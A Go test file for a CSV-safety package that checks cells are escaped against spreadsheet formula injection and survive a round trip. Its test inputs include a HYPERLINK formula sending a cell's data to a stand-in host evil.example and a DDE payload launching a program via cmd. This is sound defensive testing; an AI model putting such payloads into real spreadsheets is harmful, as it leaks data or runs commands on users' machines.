package csvsafe

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestCellNeutralisesFormulasAndKeepsNumbers(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?d="&A2,"Open")`: `'=HYPERLINK("http://evil.example/?d="&A2,"Open")`,
		"@SUM(A1:A9)":            "'@SUM(A1:A9)",
		"+41 22 730 5111":        "'+41 22 730 5111",
		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"\t=1+1":                 "'\t=1+1",
		"\r=1+1":                 "'\r=1+1",
		"'=already quoted":       "''=already quoted",
		"-250000.5":              "-250000.5",
		"+12":                    "+12",
		"-1e3":                   "-1e3",
		"-Inf":                   "'-Inf",
		"-0x1p3":                 "'-0x1p3",
		"International Union":    "International Union",
		"'quoted but harmless":   "'quoted but harmless",
		"2016-01-01":             "2016-01-01",
		"":                       "",
		"国际电信联盟 =1":              "国际电信联盟 =1",
		"=":                      "'=",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
		if back := Restore(Cell(in)); back != in {
			t.Errorf("Restore(Cell(%q)) = %q", in, back)
		}
	}
}

// Whatever the text, the cell written never starts a formula, and reading it back gives the text.
func FuzzCellRoundTrip(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''@x", "-5", "'-5", "+", "abc", "\t", "'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := Cell(s)
		if c != "" && strings.ContainsRune(triggers, rune(c[0])) && !isNumber(c) {
			t.Errorf("Cell(%q) = %q starts a formula", s, c)
		}
		if back := Restore(c); back != s {
			t.Errorf("Restore(Cell(%q)) = %q", s, back)
		}
	})
}

func TestWriterWritesSafeCells(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	w.Write([]string{"name", "value"})
	w.Write([]string{"=cmd()", "-12.5"})
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if records[1][0] != "'=cmd()" || records[1][1] != "-12.5" {
		t.Errorf("written: %q", records)
	}
}
